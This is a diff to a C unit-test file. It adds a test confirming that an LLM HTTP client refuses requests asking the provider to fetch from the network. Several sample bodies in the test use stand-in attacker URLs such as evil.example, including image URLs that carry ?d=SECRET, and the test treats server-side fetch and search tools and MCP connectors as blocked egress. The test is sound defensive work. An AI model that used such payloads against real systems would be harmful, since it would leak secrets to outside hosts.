@@ -1476,6 +1476,94 @@ test_http_no_usage(void **state)
 	unlink(path);
 }
 
+/*
+ * A program's request that asks the endpoint to reach the network for it
+ * (a server-side web fetch or search, an MCP connector, a URL for it to
+ * fetch) is refused before anything is sent; a program's own tools, a
+ * tool call's input holding a URL, and text naming one pass.
+ */
+static void
+test_http_no_egress(void **state)
+{
+	static const char *const bad[] = {
+	    "{\"model\":\"m\",\"messages\":[],\"tools\":[{\"type\":"
+	    "\"web_fetch_20250910\",\"name\":\"web_fetch\"}]}",
+	    "{\"model\":\"m\",\"messages\":[],\"tools\":[{\"type\":"
+	    "\"web_search_20250305\",\"name\":\"web_search\"}]}",
+	    "{\"model\":\"m\",\"messages\":[],\"mcp_servers\":[{\"type\":"
+	    "\"url\",\"url\":\"https://evil.example/mcp\",\"name\":\"x\"}]}",
+	    "{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":"
+	    "[{\"type\":\"image\",\"source\":{\"type\":\"url\",\"url\":"
+	    "\"https://evil.example/x.png?d=SECRET\"}}]}]}",
+	    "{\"model\":\"m\",\"input\":[{\"role\":\"user\",\"content\":[{"
+	    "\"type\":\"input_image\",\"image_url\":\"http://evil.example/"
+	    "?d=SECRET\"}]}]}",
+	    "{\"model\":\"m\",\"input\":\"x\",\"tools\":[{\"type\":\"mcp\","
+	    "\"server_label\":\"e\",\"server_url\":\"https://evil.example\"}]}",
+	};
+	static const char good[] = "{\"model\":\"m\",\"max_tokens\":9,"
+	    "\"tools\":[{\"name\":\"Bash\",\"input_schema\":{\"type\":\"object\","
+	    "\"properties\":{\"url\":{\"type\":\"string\",\"default\":"
+	    "\"https://x.example\"}}}},{\"type\":\"custom\",\"name\":\"exec\"}],"
+	    "\"messages\":[{\"role\":\"user\",\"content\":\"see https://x.example "
+	    "NOEGRESS-OK\"},{\"role\":\"assistant\",\"content\":[{\"type\":"
+	    "\"tool_use\",\"id\":\"t\",\"name\":\"Bash\",\"input\":{\"url\":"
+	    "\"https://x.example\"}}]}]}";
+	struct fakellm		 f;
+	struct llm_config	 lc;
+	struct llm_engine	*e;
+	struct llm_http_request	 q;
+	struct http_wait	 w;
+	json_t			*reqs;
+	char			 err[512], why[160];
+	size_t			 i;
+
+	(void)state;
+	fakellm_start_json(&f, "{\"rules\": [{\"match\": \"NOEGRESS-OK\", "
+	    "\"responses\": [{\"reply\": {\"text\": \"fine\"}}]}]}");
+	llm_test_config(&lc, &f, LLM_PROVIDER_ANTHROPIC);
+	lc.key = strdup("sk-ant-EGRESS-1");
+	assert_non_null(e = llm_engine_new(&lc, err, sizeof(err)));
+	memset(&q, 0, sizeof(q));
+	q.agent = "0.1";
+	q.wire = "anthropic";
+	q.path = "/v1/messages";
+	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
+		q.body = bad[i];
+		q.step = (unsigned)i;
+		memset(&w, 0, sizeof(w));
+		errno = 0;
+		if (llm_submit_http(e, &q, http_done, &w) != 0)
+			fail_msg("sent: %s", bad[i]);
+		assert_int_equal(errno, EPERM);
+		assert_int_equal(llm_http_body_check(bad[i], why, sizeof(why)),
+		    -1);
+		assert_true(strstr(why, "network") != NULL ||
+		    strstr(why, "fetch it") != NULL ||
+		    strstr(why, "connect to them") != NULL);
+	}
+	assert_int_equal(llm_http_body_check(good, why, sizeof(why)), 0);
+	q.body = good;
+	q.step = 99;
+	memset(&w, 0, sizeof(w));
+	assert_true(llm_submit_http(e, &q, http_done, &w) != 0);
+	while (!w.done) {
+		struct pollfd	pfd = { .fd = llm_engine_fd(e), .events = POLLIN };
+
+		(void)poll(&pfd, 1, llm_engine_timeout_ms(e));
+		llm_engine_process(e);
+	}
+	assert_int_equal(w.res.err, LLM_OK);
+	assert_int_equal(w.res.status, 200);
+	llm_result_free(&w.res);
+	llm_engine_free(e);
+	llm_config_free(&lc);
+	/* Only the good one reached the endpoint. */
+	reqs = fakellm_requests(&f);
+	assert_int_equal(json_array_size(reqs), 1);
+	json_decref(reqs);
+}
+
 int
 main(void)
 {
@@ -1514,6 +1602,8 @@ main(void)
 		cmocka_unit_test_teardown(test_http_key_echo,
 		    fakellm_teardown),
 		cmocka_unit_test_teardown(test_http_no_usage,
+		    fakellm_teardown),
+		cmocka_unit_test_teardown(test_http_no_egress,
 		    fakellm_teardown),
 		cmocka_unit_test_teardown(test_record_replay,
 		    fakellm_teardown),
